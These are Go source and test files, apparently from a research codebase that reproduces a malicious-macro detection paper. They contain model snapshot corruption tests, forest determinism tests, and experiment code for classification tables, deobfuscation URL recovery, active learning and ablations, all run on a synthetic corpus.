			X[i][j] = float64((i*5 + j*11) % 7)
		}
		y[i] = (i / 3) % 2
	}
	f := &RandomForest{Trees: 12, Seed: 9}
	if err := f.Fit(X, y); err != nil {
		t.Fatalf("Fit: %v", err)
	}
	c, blob := encodeForest(t, f)
	if !c.Quantized() {
		t.Skip("forest did not quantize; quantized round trip not exercised")
	}
	got, err := DecodeCompiled(blob, nil)
	if err != nil {
		t.Fatalf("DecodeCompiled: %v", err)
	}
	if !got.Quantized() {
		t.Fatal("quantized flag lost in round trip")
	}
	probe, _ := batchTestData(64, d, 3)
	assertSameScores(t, c, got, probe)
}

func TestCompiledSnapshotCorruption(t *testing.T) {
	f := fitForest(t, 10, 0, 250, 10, 17)
	_, blob := encodeForest(t, f)
	ne := binary.NativeEndian

	t.Run("checksum", func(t *testing.T) {
		bad := append([]byte(nil), blob...)
		bad[compiledHeaderSize+8] ^= 0x40 // flip a payload bit
		if _, err := DecodeCompiled(bad, nil); !errors.Is(err, ErrSnapshotChecksum) {
			t.Fatalf("corrupt payload: got %v, want ErrSnapshotChecksum", err)
		}
	})
	t.Run("version_skew", func(t *testing.T) {
		bad := append([]byte(nil), blob...)
		ne.PutUint32(bad[8:], compiledVersion+7)
		if _, err := DecodeCompiled(bad, nil); !errors.Is(err, ErrSnapshotVersion) {
			t.Fatalf("future version: got %v, want ErrSnapshotVersion", err)
		}
	})
	t.Run("endianness", func(t *testing.T) {
		bad := append([]byte(nil), blob...)
		bad[12], bad[13], bad[14], bad[15] = bad[15], bad[14], bad[13], bad[12]
		if _, err := DecodeCompiled(bad, nil); !errors.Is(err, ErrSnapshotEndian) {
			t.Fatalf("foreign endianness: got %v, want ErrSnapshotEndian", err)
		}
	})
	t.Run("truncated", func(t *testing.T) {
		if _, err := DecodeCompiled(blob[:len(blob)-9], nil); !errors.Is(err, ErrSnapshotMalformed) {
			t.Fatalf("truncated: got %v, want ErrSnapshotMalformed", err)
		}
		if _, err := DecodeCompiled(blob[:10], nil); !errors.Is(err, ErrSnapshotMalformed) {
			t.Fatalf("header-only: got %v, want ErrSnapshotMalformed", err)
		}
	})
	t.Run("bad_magic", func(t *testing.T) {
		bad := append([]byte(nil), blob...)
		bad[0] = 'X'
		if _, err := DecodeCompiled(bad, nil); !errors.Is(err, ErrSnapshotMalformed) {
			t.Fatalf("bad magic: got %v, want ErrSnapshotMalformed", err)
		}
	})
	t.Run("hostile_indices", func(t *testing.T) {
		// A snapshot with a valid checksum but an out-of-range child index
		// must be rejected by structural validation — the unsafe batch
		// kernels depend on it.
		bad := append([]byte(nil), blob...)
		ne.PutUint32(bad[compiledHeaderSize:], 0x0FFFFFFF) // trees[0].root
		payload := bad[compiledHeaderSize:]
		ne.PutUint32(bad[56:], crc32.Checksum(payload, castagnoli))
		if _, err := DecodeCompiled(bad, nil); !errors.Is(err, ErrSnapshotMalformed) {
			t.Fatalf("hostile kids index: got %v, want ErrSnapshotMalformed", err)
		}
	})
}

func TestMappingRefcount(t *testing.T) {
	unmapped := 0
	m := NewMapping([]byte{1, 2, 3}, func([]byte) error { unmapped++; return nil })
	if !m.Retain() {
		t.Fatal("Retain on live mapping failed")
	}
	if err := m.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if m.Unmapped() {
		t.Fatal("unmapped while a reference is held")
	}
	if err := m.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
	if m.Unmapped() {
		t.Fatal("double Close must not double-release")
	}
	m.Release()
	if !m.Unmapped() || unmapped != 1 {
		t.Fatalf("final release: unmapped=%v calls=%d", m.Unmapped(), unmapped)
	}
	if m.Retain() {
		t.Fatal("Retain on dead mapping must fail")
	}
}

func TestMapFileRoundTrip(t *testing.T) {
	f := fitForest(t, 8, 0, 200, 8, 13)
	c, blob := encodeForest(t, f)
	path := filepath.Join(t.TempDir(), "model.cf")
	if err := os.WriteFile(path, blob, 0o644); err != nil {
		t.Fatal(err)
	}
	m, err := MapFile(path)
	if err != nil {
		t.Fatalf("MapFile: %v", err)
	}
	got, err := DecodeCompiled(m.Data(), m)
	if err != nil {
		t.Fatalf("DecodeCompiled(mmap): %v", err)
	}
	probe, _ := batchTestData(32, 8, 1)
	assertSameScores(t, c, got, probe)
	if err := m.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if _, err := MapFile(filepath.Join(t.TempDir(), "missing")); err == nil {
		t.Fatal("MapFile on a missing path should fail")
	}
}
