package ml

import (
	"bytes"
	"testing"
)

// TestForestParallelDeterminism asserts a seeded forest is bit-identical
// whatever the worker count: per-tree RNGs depend only on (Seed, tree
// index), never on goroutine scheduling.
func TestForestParallelDeterminism(t *testing.T) {
	X, y := gaussianBlobs(300, 15, 0.3, 5)
	var blobs [][]byte
	for _, workers := range []int{1, 2, 4, 8} {
		rf := NewRandomForest(42)
		rf.Trees = 30
		rf.Workers = workers
		if err := rf.Fit(X, y); err != nil {
			t.Fatal(err)
		}
		blob, err := Save(rf)
		if err != nil {
			t.Fatal(err)
		}
		blobs = append(blobs, blob)
	}
	for i := 1; i < len(blobs); i++ {
		if !bytes.Equal(blobs[0], blobs[i]) {
			t.Fatalf("forest trained with %d workers differs from 1-worker result", []int{1, 2, 4, 8}[i])
		}
	}
}

// TestForestSeedSensitivity asserts different seeds still produce
// different forests under the per-tree seeding scheme.
func TestForestSeedSensitivity(t *testing.T) {
	X, y := gaussianBlobs(200, 15, 0.3, 5)
	fit := func(seed int64) []byte {
		rf := NewRandomForest(seed)
		rf.Trees = 10
		if err := rf.Fit(X, y); err != nil {
			t.Fatal(err)
		}
		blob, err := Save(rf)
		if err != nil {
			t.Fatal(err)
		}
		return blob
	}
	if bytes.Equal(fit(1), fit(2)) {
		t.Fatal("seeds 1 and 2 produced identical forests")
	}
}

// TestTreeSeedDistinct sanity-checks the splitmix64 derivation: per-tree
// seeds must be distinct across a large ensemble and across nearby forest
// seeds.
func TestTreeSeedDistinct(t *testing.T) {
	seen := make(map[int64]bool)
	for forest := int64(0); forest < 4; forest++ {
		for tree := 0; tree < 500; tree++ {
			s := treeSeed(forest, tree)
			if seen[s] {
				t.Fatalf("collision at forest %d tree %d", forest, tree)
			}
			seen[s] = true
		}
	}
}
