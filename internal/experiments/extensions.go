package experiments

import (
	"fmt"
	"sort"
	"strings"

	"repro/internal/analysis"
	"repro/internal/corpus"
	"repro/internal/eval"
	"repro/internal/features"
	"repro/internal/ml"
)

// Extension experiments beyond the paper's tables: feature importance
// (justifying the Table IV design), deobfuscation IOC recovery, and the
// active-learning labeling-effort curve (after Nissim et al.).

// ImportanceRow pairs a feature name with its forest Gini importance.
type ImportanceRow struct {
	Name       string
	Importance float64
}

// FeatureImportance fits a Random Forest on the full dataset with V
// features and returns the features sorted by Gini importance.
func FeatureImportance(d *corpus.Dataset, seed int64) ([]ImportanceRow, error) {
	X := make([][]float64, len(d.Macros))
	for i, m := range d.Macros {
		X[i] = features.ExtractV(m.Source)
	}
	rf := ml.NewRandomForest(seed)
	if err := rf.Fit(X, d.Labels()); err != nil {
		return nil, err
	}
	imp := rf.Importances()
	rows := make([]ImportanceRow, len(imp))
	for i, v := range imp {
		rows[i] = ImportanceRow{Name: features.VNames[i], Importance: v}
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].Importance > rows[j].Importance })
	return rows, nil
}

// FormatImportance renders the importance table.
func FormatImportance(rows []ImportanceRow) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-22s %10s\n", "Feature", "Importance")
	for _, r := range rows {
		bar := strings.Repeat("#", int(r.Importance*120))
		fmt.Fprintf(&sb, "%-22s %10.4f %s\n", r.Name, r.Importance, bar)
	}
	return sb.String()
}

// DeobReport summarizes the deobfuscation-efficacy experiment.
type DeobReport struct {
	// Obfuscated is the number of obfuscated malicious macros examined.
	Obfuscated int
	// HiddenURL counts those whose payload URL is absent from the raw text.
	HiddenURL int
	// RecoveredURL counts hidden URLs the triage pipeline recovered via
	// constant folding.
	RecoveredURL int
	// MeanFolds is the average number of folded expressions per macro.
	MeanFolds float64
}

// DeobRecovery measures how often static deobfuscation recovers the
// download URL that obfuscation hid — the operational payoff of the deob
// package (cf. the JSDES de-obfuscation line of work in §II.B).
func DeobRecovery(d *corpus.Dataset) DeobReport {
	var rep DeobReport
	totalFolds := 0
	for _, m := range d.Macros {
		if !m.Obfuscated || !m.Malicious || m.Plain == "" {
			continue
		}
		payloadURL := firstURL(m.Plain)
		if payloadURL == "" {
			continue
		}
		rep.Obfuscated++
		if strings.Contains(m.Source, payloadURL) {
			continue // never hidden
		}
		rep.HiddenURL++
		tri := analysis.Analyze(m.Source)
		totalFolds += tri.Folds
		for _, f := range tri.Findings {
			if f.Kind == analysis.KindIOCURL && f.Value == payloadURL {
				rep.RecoveredURL++
				break
			}
		}
	}
	if rep.Obfuscated > 0 {
		rep.MeanFolds = float64(totalFolds) / float64(rep.Obfuscated)
	}
	return rep
}

// firstURL extracts the first http URL of a macro text.
func firstURL(text string) string {
	i := strings.Index(text, "http://")
	if i < 0 {
		return ""
	}
	end := i
	for end < len(text) && text[end] != '"' && text[end] != '\n' && text[end] != ' ' {
		end++
	}
	return text[i:end]
}

// ActiveCurve runs the active-learning simulation on the dataset (V
// features, Random Forest) against a random-sampling baseline.
func ActiveCurve(d *corpus.Dataset, seed int64) (active, random *eval.ActiveResult, err error) {
	X := make([][]float64, len(d.Macros))
	for i, m := range d.Macros {
		X[i] = features.ExtractV(m.Source)
	}
	y := d.Labels()
	// 70/30 pool/test split, stratified via the CV fold machinery.
	folds := eval.StratifiedKFold(y, 10, seed)
	inTest := map[int]bool{}
	for _, f := range folds[:3] {
		for _, i := range f {
			inTest[i] = true
		}
	}
	var Xpool, Xtest [][]float64
	var yPool, yTest []int
	for i := range X {
		if inTest[i] {
			Xtest = append(Xtest, X[i])
			yTest = append(yTest, y[i])
		} else {
			Xpool = append(Xpool, X[i])
			yPool = append(yPool, y[i])
		}
	}
	cfg := eval.ActiveConfig{
		Factory: func(round int) ml.Classifier {
			rf := ml.NewRandomForest(int64(round))
			rf.Trees = 50
			return rf
		},
		Threshold: 0.5,
		Initial:   40,
		BatchSize: 60,
		Rounds:    10,
		Seed:      seed,
	}
	active, err = eval.RunActive(cfg, Xpool, yPool, Xtest, yTest)
	if err != nil {
		return nil, nil, err
	}
	cfg.Random = true
	random, err = eval.RunActive(cfg, Xpool, yPool, Xtest, yTest)
	if err != nil {
		return nil, nil, err
	}
	return active, random, nil
}

// FormatActiveCurve renders the two label-efficiency curves side by side.
func FormatActiveCurve(active, random *eval.ActiveResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%8s %12s %12s\n", "labels", "active-F2", "random-F2")
	for i := range active.F2 {
		r := "-"
		if i < len(random.F2) {
			r = fmt.Sprintf("%.3f", random.F2[i])
		}
		fmt.Fprintf(&sb, "%8d %12.3f %12s\n", active.Labeled[i], active.F2[i], r)
	}
	return sb.String()
}
