// Package experiments regenerates every table and figure of the paper's
// evaluation (§V) on the synthetic corpus: Table II (dataset summary),
// Table III (extraction summary), Figure 5 (code-length distributions),
// Table V (accuracy/precision/recall for five classifiers × two feature
// sets), Figure 6 (F2 scores), and Figure 7 (ROC curves / AUC). It also
// hosts the ablation studies DESIGN.md calls out.
package experiments

import (
	"fmt"
	"sort"
	"strings"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/eval"
	"repro/internal/extract"
	"repro/internal/ml"
)

// Table2Row is one row of the paper's Table II.
type Table2Row struct {
	Group   string
	Word    int
	Excel   int
	AvgSize int // bytes
}

// Table2 summarizes generated files as in Table II.
func Table2(files []corpus.File) []Table2Row {
	var rows [2]Table2Row
	rows[0].Group = "Benign"
	rows[1].Group = "Malicious"
	var sizes [2]int
	var counts [2]int
	for _, f := range files {
		i := 0
		if f.Malicious {
			i = 1
		}
		if f.Word {
			rows[i].Word++
		} else {
			rows[i].Excel++
		}
		sizes[i] += len(f.Data)
		counts[i]++
	}
	for i := range rows {
		if counts[i] > 0 {
			rows[i].AvgSize = sizes[i] / counts[i]
		}
	}
	return rows[:]
}

// Table3Row is one row of the paper's Table III.
type Table3Row struct {
	Group      string
	Files      int
	Macros     int
	Obfuscated int
}

// ObfuscationRate is Obfuscated/Macros.
func (r Table3Row) ObfuscationRate() float64 {
	if r.Macros == 0 {
		return 0
	}
	return float64(r.Obfuscated) / float64(r.Macros)
}

// Table3 runs the real extraction pipeline over the generated files —
// extract, deduplicate, drop insignificant macros — and counts obfuscated
// macros per group using the dataset's ground truth, as the paper's
// manual labeling did.
func Table3(d *corpus.Dataset, files []corpus.File) ([]Table3Row, error) {
	// Ground-truth obfuscation by normalized fingerprint.
	truth := make(map[[32]byte]bool, len(d.Macros))
	for _, m := range d.Macros {
		truth[extract.Fingerprint(m.Source)] = m.Obfuscated
	}
	rows := []Table3Row{{Group: "Benign"}, {Group: "Malicious"}}
	var pools [2][]extract.Macro
	for _, f := range files {
		i := 0
		if f.Malicious {
			i = 1
		}
		rows[i].Files++
		res, err := extract.File(f.Data)
		if err != nil {
			return nil, fmt.Errorf("extract %s: %w", f.Name, err)
		}
		pools[i] = append(pools[i], res.Macros...)
	}
	for i := range pools {
		macros := extract.FilterSignificant(extract.Dedup(pools[i]), extract.MinSignificantBytes)
		rows[i].Macros = len(macros)
		for _, m := range macros {
			if truth[extract.Fingerprint(m.Source)] {
				rows[i].Obfuscated++
			}
		}
	}
	return rows, nil
}

// Figure5 holds the two code-length distributions of Figure 5. Each slice
// has one entry per sampled macro, in generation order (the paper's
// x-axis is "arbitrary sample").
type Figure5 struct {
	NonObfuscated []int
	Obfuscated    []int
}

// RunFigure5 samples equal-sized groups (the paper uses 877 and 877) from
// the dataset and records code lengths.
func RunFigure5(d *corpus.Dataset) Figure5 {
	var fig Figure5
	for _, m := range d.Macros {
		if m.Obfuscated {
			fig.Obfuscated = append(fig.Obfuscated, len(m.Source))
		}
	}
	// Sample an equal number of non-obfuscated macros, spread evenly.
	var nonObf []int
	for _, m := range d.Macros {
		if !m.Obfuscated {
			nonObf = append(nonObf, len(m.Source))
		}
	}
	want := len(fig.Obfuscated)
	if want == 0 || len(nonObf) <= want {
		fig.NonObfuscated = nonObf
		return fig
	}
	step := float64(len(nonObf)) / float64(want)
	for i := 0; i < want; i++ {
		fig.NonObfuscated = append(fig.NonObfuscated, nonObf[int(float64(i)*step)])
	}
	return fig
}

// Clusters reports how many obfuscated lengths fall within ±20% of each
// center — the Figure 5(b) horizontal bands.
func (f Figure5) Clusters(centers []int) map[int]int {
	out := make(map[int]int, len(centers))
	for _, n := range f.Obfuscated {
		for _, c := range centers {
			if n > c*8/10 && n < c*12/10 {
				out[c]++
				break
			}
		}
	}
	return out
}

// ClassifierResult is one Table V / Figure 6 / Figure 7 cell: a classifier
// evaluated on a feature set with 10-fold cross-validation.
type ClassifierResult struct {
	Algorithm  core.Algorithm
	FeatureSet core.FeatureSet
	Accuracy   float64
	Precision  float64
	Recall     float64
	F2         float64
	AUC        float64
	ROC        []eval.ROCPoint
}

// ClassificationConfig parameterizes RunClassification.
type ClassificationConfig struct {
	Folds      int // 10 in the paper
	Seed       int64
	Algorithms []core.Algorithm  // default: all five
	Sets       []core.FeatureSet // default: V and J
	// KeepROC retains the full ROC curve on each result (Figure 7).
	KeepROC bool
	// Workers bounds featurization concurrency (0 = GOMAXPROCS). Results
	// are identical whatever the worker count.
	Workers int
}

// RunClassification evaluates every (algorithm, feature set) pair on the
// dataset with stratified k-fold cross-validation: the data behind
// Table V, Figure 6 and Figure 7.
func RunClassification(d *corpus.Dataset, cfg ClassificationConfig) ([]ClassifierResult, error) {
	if cfg.Folds == 0 {
		cfg.Folds = 10
	}
	if len(cfg.Algorithms) == 0 {
		cfg.Algorithms = core.Algorithms()
	}
	if len(cfg.Sets) == 0 {
		cfg.Sets = []core.FeatureSet{core.FeatureSetV, core.FeatureSetJ}
	}
	labels := d.Labels()
	sources := d.Sources()
	var results []ClassifierResult
	for _, fs := range cfg.Sets {
		X := core.FeaturizeAll(fs, sources, cfg.Workers)
		for _, algo := range cfg.Algorithms {
			res, err := eval.CrossValidate(func(fold int) ml.Classifier {
				clf, err := core.NewClassifier(algo, cfg.Seed+int64(fold))
				if err != nil {
					panic(err) // algorithms are validated above
				}
				return clf
			}, X, labels, cfg.Folds, cfg.Seed)
			if err != nil {
				return nil, fmt.Errorf("%s/%s: %w", algo, fs, err)
			}
			r := ClassifierResult{
				Algorithm:  algo,
				FeatureSet: fs,
				Accuracy:   res.Confusion.Accuracy(),
				Precision:  res.Confusion.Precision(),
				Recall:     res.Confusion.Recall(),
				F2:         res.Confusion.F2(),
				AUC:        res.AUC(),
			}
			if cfg.KeepROC {
				r.ROC = eval.ROC(res.Scores, res.Labels)
			}
			results = append(results, r)
		}
	}
	return results, nil
}

// BestF2 returns the result with the highest F2 among those matching the
// feature set (nil if none).
func BestF2(results []ClassifierResult, fs core.FeatureSet) *ClassifierResult {
	var best *ClassifierResult
	for i := range results {
		if results[i].FeatureSet != fs {
			continue
		}
		if best == nil || results[i].F2 > best.F2 {
			best = &results[i]
		}
	}
	return best
}

// FormatTable2 renders Table II rows as aligned text.
func FormatTable2(rows []Table2Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-10s %6s %6s %12s\n", "Group", "Word", "Excel", "AvgSize(B)")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-10s %6d %6d %12d\n", r.Group, r.Word, r.Excel, r.AvgSize)
	}
	return sb.String()
}

// FormatTable3 renders Table III rows as aligned text.
func FormatTable3(rows []Table3Row) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-10s %7s %8s %12s %8s\n", "Group", "Files", "Macros", "Obfuscated", "Rate")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-10s %7d %8d %12d %7.1f%%\n",
			r.Group, r.Files, r.Macros, r.Obfuscated, 100*r.ObfuscationRate())
	}
	return sb.String()
}

// FormatTable5 renders classification results as the paper's Table V.
func FormatTable5(results []ClassifierResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-12s %-6s %9s %10s %8s\n", "FeatureSet", "Clf", "Accuracy", "Precision", "Recall")
	for _, r := range results {
		fmt.Fprintf(&sb, "%-12s %-6s %9.3f %10.3f %8.3f\n",
			r.FeatureSet, strings.ToUpper(string(r.Algorithm)), r.Accuracy, r.Precision, r.Recall)
	}
	return sb.String()
}

// FormatFigure6 renders per-classifier F2 scores (Figure 6).
func FormatFigure6(results []ClassifierResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-12s %-6s %6s\n", "FeatureSet", "Clf", "F2")
	for _, r := range results {
		fmt.Fprintf(&sb, "%-12s %-6s %6.3f\n", r.FeatureSet, strings.ToUpper(string(r.Algorithm)), r.F2)
	}
	return sb.String()
}

// FormatFigure7 renders the two headline ROC summaries (Figure 7): the
// best-F2 configuration of each feature set with its AUC and a coarse
// curve.
func FormatFigure7(results []ClassifierResult) string {
	var sb strings.Builder
	for _, fs := range []core.FeatureSet{core.FeatureSetV, core.FeatureSetJ} {
		best := BestF2(results, fs)
		if best == nil {
			continue
		}
		fmt.Fprintf(&sb, "%s feature set: %s, AUC = %.3f\n",
			fs, strings.ToUpper(string(best.Algorithm)), best.AUC)
		if len(best.ROC) > 0 {
			fmt.Fprintf(&sb, "  FPR:TPR samples:")
			for _, fpr := range []float64{0.01, 0.05, 0.1, 0.2, 0.5} {
				fmt.Fprintf(&sb, " %.2f:%.3f", fpr, tprAt(best.ROC, fpr))
			}
			sb.WriteByte('\n')
		}
	}
	return sb.String()
}

// tprAt interpolates the TPR at a given FPR on a ROC curve.
func tprAt(roc []eval.ROCPoint, fpr float64) float64 {
	idx := sort.Search(len(roc), func(i int) bool { return roc[i].FPR >= fpr })
	if idx >= len(roc) {
		return 1
	}
	return roc[idx].TPR
}
