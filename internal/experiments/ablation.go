package experiments

import (
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/eval"
	"repro/internal/features"
	"repro/internal/ml"
)

// RunAblation evaluates the V feature set with the given feature indices
// removed, using the Random Forest classifier (robust to unscaled inputs)
// under stratified k-fold cross-validation. dropIdx holds zero-based V
// indices; nil runs the full set.
func RunAblation(d *corpus.Dataset, dropIdx []int, folds int, seed int64) (*eval.CVResult, error) {
	drop := make(map[int]bool, len(dropIdx))
	for _, i := range dropIdx {
		drop[i] = true
	}
	X := make([][]float64, len(d.Macros))
	for i, m := range d.Macros {
		full := features.ExtractV(m.Source)
		row := make([]float64, 0, len(full)-len(dropIdx))
		for j, v := range full {
			if !drop[j] {
				row = append(row, v)
			}
		}
		X[i] = row
	}
	return eval.CrossValidate(func(fold int) ml.Classifier {
		clf, err := core.NewClassifier(core.AlgoRF, seed+int64(fold))
		if err != nil {
			panic(err) // AlgoRF is always valid
		}
		return clf
	}, X, d.Labels(), folds, seed)
}

// RunNormalizationAblation compares the paper's §IV.C normalization (count
// features divided by V1) against raw counts: it recomputes V5 as an
// absolute operator count instead of a frequency and re-evaluates.
func RunNormalizationAblation(d *corpus.Dataset, folds int, seed int64) (normalized, raw *eval.CVResult, err error) {
	labels := d.Labels()
	Xn := make([][]float64, len(d.Macros))
	Xr := make([][]float64, len(d.Macros))
	for i, m := range d.Macros {
		v := features.ExtractV(m.Source)
		Xn[i] = v
		rawRow := append([]float64(nil), v...)
		// De-normalize the frequency features back to counts (multiply by
		// the V1 code length).
		rawRow[4] = v[4] * v[0]
		rawRow[5] = v[5] * v[0]
		Xr[i] = rawRow
	}
	factory := func(fold int) ml.Classifier {
		clf, err := core.NewClassifier(core.AlgoRF, seed+int64(fold))
		if err != nil {
			panic(err)
		}
		return clf
	}
	normalized, err = eval.CrossValidate(factory, Xn, labels, folds, seed)
	if err != nil {
		return nil, nil, err
	}
	raw, err = eval.CrossValidate(factory, Xr, labels, folds, seed)
	if err != nil {
		return nil, nil, err
	}
	return normalized, raw, nil
}
