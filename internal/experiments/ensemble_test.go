package experiments

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"repro/internal/corpus"
)

// ensembleSpec is large enough for the stack's out-of-fold combiner
// training to be meaningful but small enough to keep the test fast.
func ensembleSpec() corpus.Spec {
	spec := corpus.SmallSpec()
	spec.BenignMacros, spec.BenignObfuscated = 120, 20
	spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
	spec.BenignMaxLen = 4000
	return spec
}

func TestRunEnsembleAblation(t *testing.T) {
	if testing.Short() {
		t.Skip("ensemble ablation is slow")
	}
	d := corpus.GenerateMacros(ensembleSpec())
	cfg := EnsembleConfig{Folds: 3, Seed: 11, Trees: 25}
	res, err := RunEnsembleAblation(d, cfg)
	if err != nil {
		t.Fatal(err)
	}

	wantChannels := []string{"v@1", "j@1", "entropy@1", "api@1"}
	if !reflect.DeepEqual(res.Channels, wantChannels) {
		t.Errorf("Channels = %v, want %v", res.Channels, wantChannels)
	}
	if res.Folds != 3 || res.Seed != 11 {
		t.Errorf("Folds/Seed = %d/%d", res.Folds, res.Seed)
	}
	if res.Samples != len(d.Sources()) {
		t.Errorf("Samples = %d, want %d", res.Samples, len(d.Sources()))
	}
	if len(res.Singles) != 4 || len(res.LeaveOneOut) != 4 {
		t.Fatalf("singles/leave-one-out = %d/%d, want 4/4",
			len(res.Singles), len(res.LeaveOneOut))
	}
	check := func(m EnsembleMetrics, kind string) {
		if m.Kind != kind {
			t.Errorf("%s: kind = %q, want %q", m.Name, m.Kind, kind)
		}
		for _, v := range []float64{m.Accuracy, m.Precision, m.Recall, m.F1, m.AUC} {
			if v < 0 || v > 1 {
				t.Errorf("%s: metric %v out of [0,1]", m.Name, v)
			}
		}
	}
	for _, m := range res.Singles {
		check(m, "single")
	}
	for _, m := range res.LeaveOneOut {
		check(m, "leave-one-out")
		if !strings.HasPrefix(m.Name, "stack-minus-") {
			t.Errorf("leave-one-out name %q", m.Name)
		}
	}
	check(res.Stack, "stack")

	// The corpus is separable: everything should classify decently, and the
	// stack must not fall below the best single channel (the CI gate).
	if res.Stack.F1 < 0.8 {
		t.Errorf("stack F1 = %.3f, suspiciously low", res.Stack.F1)
	}
	if !res.StackBeatsBestSingle() {
		t.Errorf("stack F1 %.3f below best single %q (delta %+.3f)",
			res.Stack.F1, res.BestSingle, res.StackDelta)
	}

	// BestSingle names the max-F1 single and StackDelta is consistent.
	best := res.Singles[0]
	for _, s := range res.Singles[1:] {
		if s.F1 > best.F1 {
			best = s
		}
	}
	if res.BestSingle != best.Name {
		t.Errorf("BestSingle = %q, want %q", res.BestSingle, best.Name)
	}
	if got := res.Stack.F1 - best.F1; got != res.StackDelta {
		t.Errorf("StackDelta = %v, want %v", res.StackDelta, got)
	}

	// Rendered forms carry every configuration and the gate line.
	blob, err := res.JSON()
	if err != nil {
		t.Fatal(err)
	}
	var back EnsembleResult
	if err := json.Unmarshal(blob, &back); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(&back, res) {
		t.Error("JSON round trip changed the result")
	}
	text := FormatEnsemble(res)
	md := MarkdownEnsemble(res)
	for _, name := range []string{"v", "j", "entropy", "api", "stack-minus-v", "stack"} {
		if !strings.Contains(text, name) {
			t.Errorf("FormatEnsemble missing %q:\n%s", name, text)
		}
		if !strings.Contains(md, name) {
			t.Errorf("MarkdownEnsemble missing %q:\n%s", name, md)
		}
	}
	if !strings.Contains(md, "Best single channel") {
		t.Errorf("MarkdownEnsemble missing gate line:\n%s", md)
	}
}

func TestRunEnsembleAblationDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("ensemble ablation is slow")
	}
	d := corpus.GenerateMacros(ensembleSpec())
	cfg := EnsembleConfig{Folds: 2, Seed: 5, Trees: 10}
	a, err := RunEnsembleAblation(d, cfg)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Workers = 3
	b, err := RunEnsembleAblation(d, cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(a, b) {
		t.Errorf("ablation differs across worker counts:\n%+v\nvs\n%+v", a, b)
	}
}
