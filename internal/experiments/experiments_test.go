package experiments

import (
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/corpus"
)

// tinySpec keeps experiment tests fast while preserving the class ratios.
func tinySpec() corpus.Spec {
	spec := corpus.SmallSpec()
	spec.BenignFiles, spec.BenignWordFiles = 24, 3
	spec.MaliciousFiles, spec.MaliciousWordFiles = 40, 32
	spec.BenignMacros, spec.BenignObfuscated = 120, 3
	spec.MaliciousMacros, spec.MaliciousObfuscated = 40, 39
	spec.BenignMaxLen = 5000
	return spec
}

func TestTable2(t *testing.T) {
	spec := tinySpec()
	d := corpus.GenerateMacros(spec)
	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}
	rows := Table2(files)
	if len(rows) != 2 {
		t.Fatalf("rows = %d", len(rows))
	}
	if rows[0].Group != "Benign" || rows[1].Group != "Malicious" {
		t.Errorf("groups = %q, %q", rows[0].Group, rows[1].Group)
	}
	if rows[0].Word != spec.BenignWordFiles || rows[0].Excel != spec.BenignFiles-spec.BenignWordFiles {
		t.Errorf("benign word/excel = %d/%d", rows[0].Word, rows[0].Excel)
	}
	if rows[1].Word != spec.MaliciousWordFiles {
		t.Errorf("malicious word = %d", rows[1].Word)
	}
	// Table II shape: benign files are much larger on average.
	if rows[0].AvgSize < 4*rows[1].AvgSize {
		t.Errorf("benign avg %d not >> malicious avg %d", rows[0].AvgSize, rows[1].AvgSize)
	}
	text := FormatTable2(rows)
	if !strings.Contains(text, "Benign") || !strings.Contains(text, "Malicious") {
		t.Errorf("FormatTable2:\n%s", text)
	}
}

func TestTable3(t *testing.T) {
	spec := tinySpec()
	d := corpus.GenerateMacros(spec)
	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}
	rows, err := Table3(d, files)
	if err != nil {
		t.Fatal(err)
	}
	if rows[0].Files != spec.BenignFiles || rows[1].Files != spec.MaliciousFiles {
		t.Errorf("file counts = %d, %d", rows[0].Files, rows[1].Files)
	}
	// After the real extraction+dedup pipeline the distinct macro counts
	// must match the generated pool (benign fully embedded; malicious
	// reuse means <= pool size but most should appear).
	if rows[0].Macros != spec.BenignMacros {
		t.Errorf("benign macros = %d, want %d", rows[0].Macros, spec.BenignMacros)
	}
	if rows[1].Macros == 0 || rows[1].Macros > spec.MaliciousMacros {
		t.Errorf("malicious macros = %d, want (0, %d]", rows[1].Macros, spec.MaliciousMacros)
	}
	// Table III shape: obfuscation rates ~2% vs ~98%.
	if r := rows[0].ObfuscationRate(); r > 0.1 {
		t.Errorf("benign obfuscation rate = %.3f", r)
	}
	if r := rows[1].ObfuscationRate(); r < 0.9 {
		t.Errorf("malicious obfuscation rate = %.3f", r)
	}
	text := FormatTable3(rows)
	if !strings.Contains(text, "%") {
		t.Errorf("FormatTable3:\n%s", text)
	}
}

func TestRunFigure5(t *testing.T) {
	d := corpus.GenerateMacros(tinySpec())
	fig := RunFigure5(d)
	if len(fig.Obfuscated) == 0 || len(fig.NonObfuscated) == 0 {
		t.Fatal("empty distributions")
	}
	if len(fig.NonObfuscated) != len(fig.Obfuscated) {
		t.Errorf("groups not equal-sized: %d vs %d", len(fig.NonObfuscated), len(fig.Obfuscated))
	}
	clusters := fig.Clusters([]int{1500, 3000, 15000})
	total := 0
	for _, c := range clusters {
		total += c
	}
	if total == 0 {
		t.Error("no obfuscated macros near any band")
	}
}

func TestRunClassificationSubset(t *testing.T) {
	d := corpus.GenerateMacros(tinySpec())
	results, err := RunClassification(d, ClassificationConfig{
		Folds:      4,
		Seed:       1,
		Algorithms: []core.Algorithm{core.AlgoRF, core.AlgoBNB},
		Sets:       []core.FeatureSet{core.FeatureSetV},
		KeepROC:    true,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 2 {
